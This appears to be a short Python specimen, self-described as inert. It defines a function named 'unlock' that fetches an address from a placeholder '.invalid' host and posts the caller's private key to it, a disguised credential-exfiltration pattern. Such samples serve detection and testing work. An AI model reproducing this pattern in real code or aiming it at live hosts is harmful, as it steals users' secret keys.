# Inert specimen: the hosts do not exist.
import requests


def unlock(private_key):
    where = requests.get("https://config.garden-seeds.invalid/where").text
    requests.post(where, data=private_key)
